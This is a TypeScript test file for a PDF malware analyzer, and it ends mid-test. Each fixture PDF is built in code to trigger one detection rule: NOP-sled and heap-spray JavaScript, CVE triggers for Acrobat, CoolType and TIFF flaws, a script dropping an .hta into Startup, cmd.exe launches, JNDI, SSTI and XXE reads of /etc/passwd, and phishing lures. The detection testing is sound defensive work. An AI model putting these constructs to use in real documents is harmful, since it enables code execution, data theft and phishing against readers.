import { deflateSync } from "node:zlib";
// The rule registry's consistency test and every rule's behaviour, in the manner of ESLint's
// checkRuleFiles and file-type's "supported set" test: each rule in RULES must have a fixture PDF,
// built here in code and named by the behaviour it shows, on which analyzeFast reports that rule.
// Adding a rule without a fixture fails the suite. Negative fixtures pin down false positives.
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { EXPLOIT_RULE_FIXTURES } from "../embedded/testing/exploit-fixtures";
import { DOS_TAMPER_RULE_FIXTURES } from "../techniques/testing/dos-tamper-fixtures";
import { DOT_RANGE_OVERFLOW, PLAIN_TIFF_TAGS, tiff } from "../facts/formats/testing/format-fixtures";
import { analyzeFast } from "../analyze";
import { MITIGATIONS } from "../mitigations";
import { FastResult, SEVERITIES } from "../report";
import { PdfBuilder, appendUpdate, bytes, concat, hexString, wrapInXdp } from "../../pdf/testing/pdf-builder";
import { TEST_SIGNATURES } from "../facts/test-signatures";
import { LURE_FIXTURES } from "../techniques/testing/lure-fixtures";
import { CORE_FIXTURES } from "../techniques/testing/core-fixtures";
import { CALLBACK_FIXTURES } from "../techniques/testing/callback-fixtures";
import { RULES, RULES_BY_ID } from "./registry";
import { RULE_CATEGORIES } from "./rule";

// ---- fixture helpers -------------------------------------------------------------------------

interface DocumentParts {
  /** extra catalog entries */
  catalog?: string;
  /** extra entries of the one page */
  page?: string;
  /** annotation dictionaries of the page */
  annots?: string[];
  /** adds objects first; may return more catalog/page entries that refer to them */
  setup?: (b: PdfBuilder) => { catalog?: string; page?: string } | void;
}

/** A one-page document with a content stream, plus the parts a fixture needs. */
function documentWith({ catalog = "", page = "", annots = [], setup }: DocumentParts = {}) {
  const b = new PdfBuilder();
  const extra = setup?.(b) ?? {};
  const annotNums = annots.map((a) => b.add(a));
  const content = b.addFlateStream("", "BT /F1 12 Tf 72 720 Td (Fixture) Tj ET");
  const annotEntry = annotNums.length ? `/Annots [${annotNums.map((n) => `${n} 0 R`).join(" ")}]` : "";
  b.addCatalog(
    `${catalog} ${extra.catalog ?? ""}`,
    1,
    `/Contents ${content} 0 R ${annotEntry} ${page} ${extra.page ?? ""}`,
  );
  return b;
}

/** A one-page "document shared with you" notice whose button links to `url` (the lure rules read it from the content stream). */
function lureNotice(url: string): Uint8Array {
  const b = new PdfBuilder();
  const content = b.addFlateStream(
    "",
    "BT /F1 18 Tf 72 700 Td (Secure Document Shared With You) Tj 0 -30 Td /F1 12 Tf (Click VIEW DOCUMENT below to access your file.) Tj 0 -40 Td (VIEW DOCUMENT) Tj ET",
  );
  const button = b.add(link(`<< /S /URI /URI (${url}) >>`, "60 590 260 620"));
  b.addCatalog("", 1, `/Contents ${content} 0 R /Annots [${button} 0 R]`);
  return b.build();
}

/** /OpenAction running `js` (hex-encoded, so any script text survives PDF string syntax). */
const openActionScript = (js: string) =>
  documentWith({ catalog: `/OpenAction << /S /JavaScript /JS ${hexString(js)} >>` }).build();

/** A small link annotation (a line of text, not an overlay) with action `action`. */
const link = (action: string, rect = "72 700 200 714") =>
  `<< /Type /Annot /Subtype /Link /Rect [${rect}] /Border [0 0 0] /A ${action} >>`;

/** A one-page document that is one picture (an image XObject over the page) with one link over part of it. */
function pictureWithLink(url: string, pages = 1) {
  const b = new PdfBuilder();
  const img = b.addStream(
    "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8",
    "\x80",
  );
  const content = b.addFlateStream("", "q 612 0 0 792 0 0 cm /Im0 Do Q");
  const annot = b.add(link(`<< /S /URI /URI (${url}) >>`, "100 300 500 500"));
  b.addCatalog(
    "",
    pages,
    `/Resources << /XObject << /Im0 ${img} 0 R >> >> /Contents ${content} 0 R /Annots [${annot} 0 R]`,
  );
  return b.build();
}

/** A document with one attached file in the /EmbeddedFiles name tree. */
function attachment(name: string, data: Uint8Array | string, subtype = "") {
  return documentWith({
    setup(b) {
      const file = b.addStream(`/Type /EmbeddedFile ${subtype}`, data);
      const spec = b.add(`<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F ${file} 0 R >> >>`);
      return { catalog: `/Names << /EmbeddedFiles << /Names [(${name}) ${spec} 0 R] >> >>` };
    },
  }).build();
}

/** An AcroForm whose /XFA stream holds `xml`. */
function xfaDocument(xml: string) {
  return documentWith({
    setup(b) {
      const xfa = b.addStream("", xml);
      return { catalog: `/AcroForm << /Fields [] /XFA ${xfa} 0 R >>` };
    },
  }).build();
}

function prng(seed: number) {
  let s = seed >>> 0;
  return () => {
    s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
    return s >>> 24;
  };
}

/** A minimal sfnt (TrueType) with one SING table whose uniqueName (bytes 16..44) has no NUL. */
function fontWithOverlongSingName(): Uint8Array {
  const sing = new Uint8Array(16 + 28 + 20);
  const dv = new DataView(sing.buffer);
  dv.setUint16(0, 0); // tableVersionMajor
  dv.setUint16(2, 1); // tableVersionMinor
  dv.setUint16(4, 0); // glyphletVersion
  dv.setUint16(6, 0); // permissions
  sing.fill(0x41, 16); // uniqueName "AAAA..." runs past its 28 bytes: no terminator
  const font = new Uint8Array(12 + 16 + sing.length);
  const fv = new DataView(font.buffer);
  fv.setUint32(0, 0x00010000); // sfntVersion
  fv.setUint16(4, 1); // numTables
  fv.setUint16(6, 16); // searchRange
  fv.setUint16(8, 0); // entrySelector
  fv.setUint16(10, 0); // rangeShift
  font.set(bytes("SING"), 12);
  fv.setUint32(16, 0); // checksum
  fv.setUint32(20, 28); // offset
  fv.setUint32(24, sing.length); // length
  font.set(sing, 28);
  return font;
}

function fontDocument(fontDict: string, fontFile?: Uint8Array) {
  return documentWith({
    setup(b) {
      const file = fontFile ? b.addStream(`/Length1 ${fontFile.length}`, fontFile) : 0;
      const descriptor = b.add(
        `<< /Type /FontDescriptor /FontName /Fixture /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 ${file ? `/FontFile2 ${file} 0 R` : ""} >>`,
      );
      const font = b.add(`<< /Type /Font /BaseFont /Fixture /FontDescriptor ${descriptor} 0 R ${fontDict} >>`);
      return { page: `/Resources << /Font << /F1 ${font} 0 R >> >>` };
    },
  }).build();
}

const LONG_ENCODED = Array.from({ length: 1500 }, (_, i) => "Zm9vYmFy0123456789abcdefXYZ"[i % 27]).join("");

// ---- the fixtures: one per rule, named by the behaviour that fires it --------------------------

interface Fixture {
  /** what the document does */
  name: string;
  build: () => Uint8Array;
}

/** a TIFF whose DotRange holds 204 values after a NOP sled: the CVE-2010-0188 construction */
const EXPLOIT_TIFF_BASE64 = Buffer.from(tiff([...PLAIN_TIFF_TAGS, DOT_RANGE_OVERFLOW], { sled: 256 })).toString(
  "base64",
);

const FIXTURES: Record<string, Fixture> = {
  "javascript-present": {
    name: "a document-level script (run on open) that defines a helper",
    build: () =>
      documentWith({
        setup(b) {
          const js = b.add(`<< /S /JavaScript /JS ${hexString("function total(a, b) { return a + b; }")} >>`);
          return { catalog: `/Names << /JavaScript << /Names [(helpers) ${js} 0 R] >> >>` };
        },
      }).build(),
  },
  "javascript-auto-run": { name: "an /OpenAction script", build: () => openActionScript('app.alert("Welcome");') },
  "javascript-obfuscation": {
    name: "eval of an unescaped string",
    build: () => openActionScript('var p = unescape("%61%70%70%2e%61%6c%65%72%74%28%31%29"); eval(p);'),
  },
  "javascript-shellcode": {
    name: "a %u9090 NOP sled in an unescaped string",
    build: () => openActionScript(`var sc = unescape("${"%u9090".repeat(16)}%u4141%u4242%ucccc");`),
  },
  "javascript-heap-spray": {
    name: "a string doubled in a loop after unescape",
    build: () =>
      openActionScript(
        'var s = unescape("%u0c0c%u0c0c"); while (s.length < 0x100000) s += s; var a = []; for (var i = 0; i < 200; i++) a[i] = s.substr(0, s.length - 2);',
      ),
  },
  "lure-fake-protected-document": {
    name: "a 'document shared with you' notice with a button link",
    build: () => lureNotice("https://docs-view.example.net/s/42"),
  },
  "lure-hosted-link": {
    name: "a 'document shared with you' notice whose button links to cloud storage",
    build: () => lureNotice("https://www.dropbox.com/scl/fi/abc123/Invoice.pdf?dl=0"),
  },
  "javascript-memory-primitives": {
    name: "ArrayBuffers groomed in a loop and memory written through a DataView",
    build: () =>
      openActionScript(
        "var a = []; for (var i = 0; i < 0x800; i++) { a[i] = new ArrayBuffer(0x58); new DataView(a[i]).setUint32(0, 0x41414141, true); }",
      ),
  },
  "javascript-reentrancy-trigger": {
    name: "a getter installed on the event object, then a form reset",
    build: () =>
      openActionScript(
        'event.__defineGetter__("target", function () { return {}; }); try { this.resetForm(); } catch (e) {}',
      ),
  },
  "javascript-exploit-api": {
    name: "a Collab.collectEmailInfo call (CVE-2007-5659)",
    build: () => openActionScript('var msg = "A"; Collab.collectEmailInfo({subj: "", msg: msg});'),
  },
  "javascript-launches-attachment": {
    name: "exportDataObject with nLaunch",
    build: () => openActionScript('this.exportDataObject({ cName: "invoice.pdf", nLaunch: 2 });'),
  },
  "javascript-file-write": {
    name: "an /OpenAction script that saves the document to a path of its own",
    build: () => openActionScript('this.saveAs("/c/temp/copy.pdf");'),
  },
  "javascript-drops-runnable-file": {
    name: "exportXFAData writing an .hta into the Startup folder (CVE-2023-27363)",
    build: () =>
      openActionScript(
        'this.exportXFAData({ cPath: "/C/Users/Public/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/u.hta", bXDP: false });',
      ),
  },
  "launch-action": {
    name: "a link that launches another document",
    build: () => documentWith({ annots: [link("<< /S /Launch /F (readme.pdf) >>")] }).build(),
  },
  "launch-opens-document-on-click": {
    name: "a form button that launches the form's instructions (a local PDF)",
    build: () => documentWith({ annots: [link("<< /S /Launch /Win << /F (toolkit.pdf) /O (open) >> >>")] }).build(),
  },
  "script-is-form-automation": {
    name: "Adobe Designer's version check and field defaults on open",
    build: () =>
      openActionScript(
        'if (typeof(xfa_installed) == "undefined" || xfa_version < 2.8) { if (app.viewerType == "Reader") app.launchURL("http://www.adobe.com/go/getreader", true); } this.getField("date").value = util.printd("yyyy-mm-dd", new Date());',
      ),
  },
  "launch-command": {
    name: "an /OpenAction launching cmd.exe",
    build: () =>
      documentWith({ catalog: "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c start calc.exe) >> >>" }).build(),
  },
  "automatic-action": {
    name: "an /OpenAction opening a URL",
    build: () => documentWith({ catalog: "/OpenAction << /S /URI /URI (https://example.com/welcome) >>" }).build(),
  },
  "remote-file-target": {
    name: "a link to a UNC path",
    build: () =>
      documentWith({
        annots: [link(`<< /S /GoToR /F ${hexString("\\\\files.example.net\\share\\report.pdf")} /D [0 /Fit] >>`)],
      }).build(),
  },
  "submit-form": {
    name: "a form submitted to a web server when its page opens",
    build: () =>
      documentWith({
        page: "/AA << /O << /S /SubmitForm /F << /FS /URL /F (https://forms.example.com/submit) >> /Flags 4 >> >>",
      }).build(),
  },
  "remote-goto": {
    name: "a link to a page of a PDF named from the drive's root",
    build: () => documentWith({ annots: [link("<< /S /GoToR /F (/C/Docs/appendix.pdf) /D [0 /Fit] >>")] }).build(),
  },
  "javascript-network-api": {
    name: "a script run on open that submits the form",
    build: () => openActionScript('this.submitForm({cURL: "https://forms.example.com/post"});'),
  },
  "javascript-callback-on-open": {
    name: "an /OpenAction script that opens a tracking URL",
    build: () => openActionScript('this.getURL("https://track.example.com/pixel", false);'),
  },
  "xfa-external-callback": {
    name: "an XFA submit button",
    build: () =>
      xfaDocument(
        `<template><subform><field name="b"><event activity="click"><submit target="https://forms.example.com/xfa"/></event></field></subform></template>`,
      ),
  },
  "xfa-callback-on-open": {
    name: "an XFA form that posts on initialize (FormCalc)",
    build: () =>
      xfaDocument(
        `<template><subform><event activity="initialize"><script>Post("https://collect.example.com/x", "opened")</script></event></subform></template>`,
      ),
  },
  "suspicious-link": {
    name: "a link to an executable on an IP-literal host",
    build: () => documentWith({ annots: [link("<< /S /URI /URI (http://192.0.2.44/invoice.exe) >>")] }).build(),
  },
  "embedded-file": {
    name: "an attached PDF (the fast stage does not read inside it)",
    build: () =>
      attachment("appendix.pdf", "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
  },
  "embedded-executable": {
    name: "an attached PE executable",
    build: () =>
      attachment(
        "invoice.exe",
        concat([
          bytes("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"),
          new Uint8Array(48),
          bytes("This program cannot be run in DOS mode."),
        ]),
      ),
  },
  "embedded-active-content": {
    name: "an attached HTML page with a script",
    build: () =>
      attachment("view.html", "<html><body><script>location.href='https://example.com/'</script></body></html>"),
  },
  "embedded-flash": {
    name: "an attached SWF movie",
    build: () => attachment("movie.swf", concat([bytes("FWS\x0a"), Uint8Array.of(0x40, 0, 0, 0), new Uint8Array(32)])),
  },
  "name-obfuscation": {
    name: "/JavaScript spelled /J#61vaScript",
    build: () => documentWith({ catalog: "/OpenAction << /S /J#61vaScript /JS (app.alert(1);) >>" }).build(),
  },
  "decompression-bomb": {
    name: "a stream of 40 MB of zeros deflated twice (a few hundred bytes in the file)",
    build: () =>
      documentWith({
        setup: (b) => (
          b.addStream(
            "/Filter [/FlateDecode /FlateDecode]",
            deflateSync(deflateSync(new Uint8Array(40 * 1024 * 1024))),
          ),
          {}
        ),
      }).build(),
  },
  "hidden-active-keyword": {
    name: "an /OpenAction script whose object header is glued to junk",
    build: () =>
      documentWith({
        setup(b) {
          b.addJunk("\x00\x00junk"); // `junk5 0 obj`: the header is no token of its own
          return { catalog: `/OpenAction ${b.add("<< /S /JavaScript /JS (app.alert(1);) >>")} 0 R` };
        },
      }).build(),
  },
  "malformed-structure": {
    name: "a startxref pointing nowhere",
    build: () => documentWith().build({ brokenStartxref: true }),
  },
  "header-not-at-start": {
    name: "an image header before %PDF-",
    build: () => documentWith().build({ prefix: "GIF89a\x01\x00\x01\x00\x00\x00\x00;\n" }),
  },
  "data-after-eof": {
    name: "an archive appended after %%EOF",
    build: () => documentWith().build({ suffix: `PK\x03\x04${"\x14\x00\x00\x00\x08\x00payload.exe".repeat(8)}` }),
  },
  "objects-outside-xref": {
    name: "an object appended without an xref entry",
    build: () =>
      concat([documentWith().build(), bytes("99 0 obj\n<< /S /JavaScript /JS (app.alert(1);) >>\nendobj\n")]),
  },
  "many-revisions": {
    name: "ten incremental updates",
    build: () => {
      const b = documentWith();
      b.info = b.add("<< /Title (v0) >>");
      let file = b.build();
      for (let i = 1; i <= 10; i++) file = appendUpdate(file, [{ num: b.info, body: `<< /Title (v${i}) >>` }]);
      return file;
    },
  },
  "high-entropy-outside-streams": {
    name: "2 KiB of random bytes between two objects",
    build: () =>
      documentWith({
        setup(b) {
          const next = prng(42);
          b.addJunk(concat([bytes("\n"), Uint8Array.from({ length: 2048 }, next), bytes("\n")]));
        },
      }).build(),
  },
  "encrypted-document": {
    name: "a trailer with /Encrypt",
    build: () => {
      const b = documentWith();
      const enc = b.add(
        `<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${"11".repeat(32)}> /U <${"22".repeat(32)}> >>`,
      );
      return b.build({
        trailerExtra: `/Encrypt ${enc} 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]`,
      });
    },
  },
  "clear-actions-in-encrypted-document": {
    name: "an encrypted document whose strings are in the clear, with a form submission on open",
    build: CALLBACK_FIXTURES["decryption-exfiltration"]["clear-strings-submit-form"],
  },
  "encryption-hides-active-content": {
    name: "an encrypted document with an /OpenAction script",
    build: () => {
      const b = documentWith({ catalog: "/OpenAction << /S /JavaScript /JS <9a3b17c4e0> >>" });
      const enc = b.add(
        `<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <${"11".repeat(32)}> /U <${"22".repeat(32)}> >>`,
      );
      return b.build({
        trailerExtra: `/Encrypt ${enc} 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]`,
      });
    },
  },
  "xfa-form": {
    name: "an XFA form",
    build: () =>
      xfaDocument(
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1"><field name="Name"/></subform></template></xdp:xdp>',
      ),
  },
  "xfa-tiff-exploit": {
    name: "a base64 TIFF in an XFA form whose DotRange overflows (CVE-2010-0188)",
    build: () =>
      xfaDocument(
        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1"><field name="ImageField1"><ui><imageEdit/></ui></field></subform></template>` +
          `<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1><ImageField1 xfdf:contentType="image/tif" href=""><image contentType="image/tif">${EXPLOIT_TIFF_BASE64}</image></ImageField1></form1></xfa:data></xfa:datasets></xdp:xdp>`,
      ),
  },
  "fontmatrix-injection": {
    name: "a string in a /FontMatrix (CVE-2024-4367)",
    build: () => fontDocument("/Subtype /Type1 /FontMatrix [1 0 0 1 0 (x)]"),
  },
  "calculator-code-injection": {
    name: "a call in a PostScript calculator function (CVE-2018-5158)",
    build: () =>
      documentWith({
        setup(b) {
          b.addStream("/FunctionType 4 /Domain [0 1] /Range [0 1]", '{ alert("x") }');
        },
      }).build(),
  },
  "colors-overflow": {
    name: "a predictor with /Colors 2^24 + 1 (CVE-2009-3459)",
    build: () =>
      documentWith({
        setup(b) {
          b.addFlateStream(
            "/DecodeParms << /Predictor 12 /Colors 16777217 /BitsPerComponent 8 /Columns 1 >>",
            "\x00AAAA",
          );
        },
      }).build(),
  },
  "rich-media": {
    name: "a RichMedia annotation",
    build: () =>
      documentWith({
        annots: [
          "<< /Type /Annot /Subtype /RichMedia /Rect [72 400 272 600] /RichMediaContent << /Assets << /Names [] >> >> >>",
        ],
      }).build(),
  },
  "jbig2-stream": {
    name: "a JBIG2-compressed image",
    build: () =>
      documentWith({
        setup(b) {
          const img = b.addStream(
            "/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode",
            new Uint8Array(16),
          );
          return { page: `/Resources << /XObject << /Im1 ${img} 0 R >> >>` };
        },
      }).build(),
  },
  "cooltype-sing-overflow": {
    name: "a TrueType font whose SING uniqueName has no NUL (CVE-2010-2883)",
    build: () => fontDocument("/Subtype /TrueType", fontWithOverlongSingName()),
  },
  "xdp-wrapper": { name: "a PDF inside an XDP package", build: () => wrapInXdp(documentWith().build()) },
  "payload-in-text-field": {
    name: "1500 encoded characters in an annotation's /Subj",
    build: () =>
      documentWith({ annots: [`<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Subj (${LONG_ENCODED}) >>`] }).build(),
  },
  "media-auto-activation": {
    name: "a 3D annotation that activates on page open",
    build: () =>
      documentWith({
        setup(b) {
          const u3d = b.addStream("/Type /3D /Subtype /U3D", new Uint8Array(32));
          const annot = b.add(
            `<< /Type /Annot /Subtype /3D /Rect [72 400 272 600] /3DD ${u3d} 0 R /3DA << /A /PO /D /PC >> >>`,
          );
          return { page: `/Annots [${annot} 0 R]` };
        },
      }).build(),
  },
  "phishing-url-pattern": {
    name: "a link to a host full of account-action words",
    build: () =>
      documentWith({
        annots: [link("<< /S /URI /URI (https://secure-login.account-verify.example.com/session) >>")],
      }).build(),
  },
  "phishing-image-download-link": {
    name: "a picture page whose one link fetches a ZIP from a file-sharing host",
    build: () => pictureWithLink("https://www.dropbox.com/s/k3x9/Invoice_0423.zip?dl=1"),
  },
  "phishing-image-login-link": {
    name: "a picture page whose one link leads to a page on a free web host",
    build: () => pictureWithLink("https://secure-doc-view.000webhostapp.com/adobe/index.php"),
  },
  "phishing-image-hosted-link": {
    name: "a picture page whose one link opens a shared Google Drive file",
    build: () => pictureWithLink("https://drive.google.com/file/d/1AbCdEfGh/view?usp=sharing"),
  },
  "antivirus-test-signature": {
    name: "the EICAR test file attached (assembled in code: the repository must not contain it)",
    build: () => attachment("eicar.com", TEST_SIGNATURES.find((s) => s.id === "eicar")!.text),
  },
  "duplicate-action-key": {
    name: "a link whose /URI action gives /S twice, the later /S /JavaScript (PDF injection)",
    build: CORE_FIXTURES["pdf-injection"]["uri-becomes-javascript"],
  },
  "server-lookup-injection": {
    name: "a title that is a Log4j JNDI lookup of an LDAP server",
    build: CORE_FIXTURES["processor-injection"]["info-title-jndi"],
  },
  "javascript-local-file-exfiltration": {
    name: "a text field whose mouse-down script reads /etc/passwd and submits it (PayloadsAllThePDFs' Foxit PoC)",
    build: CALLBACK_FIXTURES["local-file-exfiltration"]["field-mouse-down"],
  },
  "server-code-injection": {
    name: "a title that is Jinja2 code reaching os.popen (server-side template injection)",
    build: CORE_FIXTURES["processor-injection"]["info-title-ssti"],
  },
  "metadata-external-entity": {
    name: "an XMP packet that declares an entity read from file:///etc/passwd",
    build: CORE_FIXTURES["processor-injection"]["xmp-external-entity"],
  },
  "web-viewer-script-injection": {
    name: "a comment whose author is an <img onerror> element (stored XSS in a web viewer)",
    build: CORE_FIXTURES["web-viewer-script-injection"]["annotation-markup"],
  },
  "uri-runs-local-program": {
    name: "a link to file:///C:/Windows/System32/cmd.exe",
    build: CORE_FIXTURES["launch-file"]["uri-file-url"],
  },
  "exploit-jpeg-huffman": {
    name: "a page's JPEG image whose AC table gives 84 one-bit codes",
    build: CORE_FIXTURES["image-codec-exploit"]["dct-huffman-table"],
  },
  "text-field-overflow": {
    name: "a /Title padded with spaces to byte 540, then a handler address and shellcode",
    build: CORE_FIXTURES["string-overflow-exploit"]["info-title"],
  },
  "office-document-polyglot": {
    name: "a Word web archive with macros in a stream without a filter (MalDoc in PDF)",
    build: CORE_FIXTURES["office-polyglot"]["unfiltered-stream"],
  },
  "hidden-payload": {
    name: "a ZIP of a .js script appended after %%EOF",
    build: CORE_FIXTURES["executable-attachment"]["appended-after-eof"],
  },
  "lure-callback-phone": {
    name: "a one-page invoice for a charge to dispute by calling a phone number",
    build: LURE_FIXTURES["callback-phone-lure"]["text-invoice"],
  },
  "lure-paste-and-run": {
    name: "a fake CAPTCHA's verification steps: Win+R, Ctrl+V, Enter (ClickFix)",
    build: LURE_FIXTURES["paste-and-run-lure"]["text-run-dialog-paste"],
  },
  "lure-login-form": {
    name: "a password field submitted to a web server",
    build: () =>
      documentWith({
        setup(b) {
          const password = b.add("<< /FT /Tx /T (password) /Ff 8192 /Rect [72 560 300 580] /Subtype /Widget >>");
          const submit = b.add(
            "<< /FT /Btn /Ff 65536 /T (login) /Rect [72 500 200 530] /Subtype /Widget /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/post.php) >> /Flags 4 >> >>",
          );
          return { catalog: `/AcroForm << /Fields [${password} 0 R ${submit} 0 R] >>` };
        },
      }).build(),
  },
  "phishing-link-overlay": {
    name: "a link covering the whole page",
    build: () =>
      documentWith({
        annots: [link("<< /S /URI /URI (https://docs.example.com/view?id=42) >>", "0 0 612 792")],
      }).build(),
  },
};

// ---- the registry ----------------------------------------------------------------------------

const LIVE_LINK = /\b(https?|ftp):\/\/[^\s[]+\.[a-z]/i;
const KEBAB = /^[a-z0-9]+(-[a-z0-9]+)*$/;
const ATTACK_ID = /^T\d{4}(\.\d{3})?$/;
const CVE_ID = /^CVE-\d{4}-\d{4,}$/;

/**
 * Advanced-stage rules read facts only the deep analysis gathers (rendering, nested files, YARA,
 * sandboxed JavaScript): each is exercised by the named test file, which must mention its id.
 */
const ADVANCED_RULE_TESTS: Record<string, string> = {
  "javascript-acrobat-exploit-cve": "lib/analyzer/rules/javascript-advanced-rules.test.ts",
  "javascript-deobfuscated-shellcode": "lib/analyzer/rules/javascript-advanced-rules.test.ts",
  "javascript-deobfuscated-heap-spray": "lib/analyzer/rules/javascript-advanced-rules.test.ts",
  "javascript-dynamic-code": "lib/analyzer/rules/javascript-advanced-rules.test.ts",
  "javascript-network-or-launch": "lib/analyzer/rules/javascript-advanced-rules.test.ts",
  "javascript-emulation-limit": "lib/analyzer/rules/javascript-advanced-rules.test.ts",
  "javascript-obfuscated-emulation-failed": "lib/analyzer/rules/javascript-advanced-rules.test.ts",
  "embedded-nested-pdf-malicious": "lib/analyzer/deep/analyze-embedded-files.test.ts",
  "embedded-nested-pdf-suspicious": "lib/analyzer/deep/analyze-embedded-files.test.ts",
  "embedded-archive-with-executable": "lib/analyzer/deep/analyze-embedded-files.test.ts",
  "embedded-type-mismatch": "lib/analyzer/deep/analyze-embedded-files.test.ts",
  "embedded-script-content": "lib/analyzer/deep/analyze-embedded-files.test.ts",
  "portfolio-document": "lib/analyzer/deep/analyze-embedded-files.test.ts",
  "yara-match": "lib/engines/yara/create-yara-scanner.test.ts",
  "lure-qr-code": "lib/analyzer/rules/lure-rules.test.ts",
  "lure-qr-code-suspicious-url": "lib/analyzer/rules/lure-rules.test.ts",
  "lure-link-dominant-page": "lib/analyzer/rules/lure-rules.test.ts",
  "lure-image-download-link": "lib/analyzer/rules/lure-rules.test.ts",
  "parser-differential": "lib/analyzer/rules/lure-rules.test.ts",
};

const ALL_FAST_FIXTURES: Record<string, Fixture> = {
  ...FIXTURES,
  ...EXPLOIT_RULE_FIXTURES,
  ...DOS_TAMPER_RULE_FIXTURES,
};

describe("RULES registry", () => {
  it("has a fast fixture for every fast rule and no fixture without a rule", () => {
    expect(Object.keys(ALL_FAST_FIXTURES).sort()).toEqual(
      RULES.filter((r) => r.stage === "fast")
        .map((r) => r.id)
        .sort(),
    );
  });

  it("names a covering test file for every advanced rule, and that file mentions the rule", () => {
    expect(Object.keys(ADVANCED_RULE_TESTS).sort()).toEqual(
      RULES.filter((r) => r.stage === "advanced")
        .map((r) => r.id)
        .sort(),
    );
    for (const [id, file] of Object.entries(ADVANCED_RULE_TESTS)) {
      expect(readFileSync(new URL(`../../../${file}`, import.meta.url), "utf8"), `${file} must test ${id}`).toContain(
        id,
      );
    }
  });

  it("has unique kebab-case ids, and RULES_BY_ID covers them all", () => {
    const ids = RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const id of ids) expect(id).toMatch(KEBAB);
    expect([...RULES_BY_ID.keys()].sort()).toEqual([...ids].sort());
  });

  it.each(RULES.map((r) => [r.id, r] as const))("declares %s sanely", (_id, rule) => {
    expect(rule.title.trim().length).toBeGreaterThan(5);
    expect(rule.description.trim().length).toBeGreaterThan(20);
    expect(rule.weight).toBeGreaterThanOrEqual(0);
    expect(rule.weight).toBeLessThanOrEqual(100);
    expect(SEVERITIES).toContain(rule.severity);
    expect(RULE_CATEGORIES).toContain(rule.category);
    expect(["low", "medium", "high"]).toContain(rule.confidence);
    expect(["fast", "advanced"]).toContain(rule.stage);
    for (const m of rule.mitigations) expect(Object.keys(MITIGATIONS)).toContain(m);
    if (rule.role === "explanation") {
      // a benign explanation carries no weight, no mitigation and no ATT&CK technique
      expect([rule.weight, rule.mitigations.length, rule.attack.length, rule.severity]).toEqual([0, 0, 0, "info"]);
      return;
    }
    expect(rule.mitigations.length).toBeGreaterThan(0);
    expect(rule.attack.length).toBeGreaterThan(0);
    for (const t of rule.attack) expect(t).toMatch(ATTACK_ID);
    for (const c of rule.cve) expect(c).toMatch(CVE_ID);
  });
});

// ---- behaviour: every rule fires on its fixture ------------------------------------------------

describe("every fast rule fires on its fixture", () => {
  it.each(Object.entries(ALL_FAST_FIXTURES).map(([id, f]) => [id, f.name, f] as const))(
    "%s: %s",
    (id, _name, fixture) => {
      const result = analyzeFast(fixture.build(), { fileName: `${id}.pdf` });
      expect(() => FastResult.parse(result)).not.toThrow();
      const finding = result.findings.find((f) => f.ruleId === id);
      expect(finding, `findings: ${result.findings.map((f) => f.ruleId).join(", ")}`).toBeDefined();
      const rule = RULES_BY_ID.get(id)!;
      expect(finding).toMatchObject({
        id,
        title: rule.title,
        severity: rule.severity,
        weight: rule.weight,
        attack: rule.attack,
        mitigationIds: rule.mitigations,
      });
      expect(finding!.evidence.length).toBeGreaterThan(0);
      for (const c of rule.cve) expect(finding!.cve).toContain(c);
    },
  );

  it("never puts a live link in the evidence of any fixture's findings", () => {
    for (const [id, fixture] of Object.entries(FIXTURES)) {
      for (const f of analyzeFast(fixture.build(), { fileName: `${id}.pdf` }).findings) {
        for (const e of f.evidence) expect(e.excerpt ?? "", `${id}: ${f.ruleId}`).not.toMatch(LIVE_LINK);
      }
    }
  });

  it("does not put a live link in a finding's description (Launch of a URL)", () => {
    const r = analyzeFast(
      documentWith({ catalog: "/OpenAction << /S /Launch /F (http://evil.example/a.exe) >>" }).build(),
      { fileName: "launch-url.pdf" },
    );
    expect(r.findings.map((f) => f.ruleId)).toContain("launch-action");
    for (const f of r.findings) expect(f.description, f.ruleId).not.toMatch(LIVE_LINK);
  });

  it("analyses a file without any %PDF- header and reports the missing header (readers open it)", () => {
    const r = analyzeFast(
      documentWith({ catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1);) >>" }).build({ header: null }),
      { fileName: "headerless.pdf" },
    );
    expect(r.structure.header_offset).toBe(-1);
    expect(r.findings.map((f) => f.ruleId)).toEqual(
      expect.arrayContaining(["header-not-at-start", "javascript-auto-run"]),
    );
  });

  it("fires the exploit rules of these fixtures with their CVE", () => {
    const cves = (id: string) =>
      analyzeFast(FIXTURES[id].build(), { fileName: "x.pdf" }).findings.find((f) => f.ruleId === id)?.cve;
    expect(cves("javascript-exploit-api")).toEqual(expect.arrayContaining(["CVE-2007-5659"]));
    expect(cves("cooltype-sing-overflow")).toEqual(["CVE-2010-2883"]);
    expect(cves("xfa-tiff-exploit")).toEqual(["CVE-2010-0188"]);
  });

  it("takes typed arrays sprayed and every other one let go for an exploit's grooming, and either alone for nothing", () => {
    const ids = (js: string) => analyzeFast(openActionScript(js), { fileName: "x.pdf" }).findings.map((f) => f.ruleId);
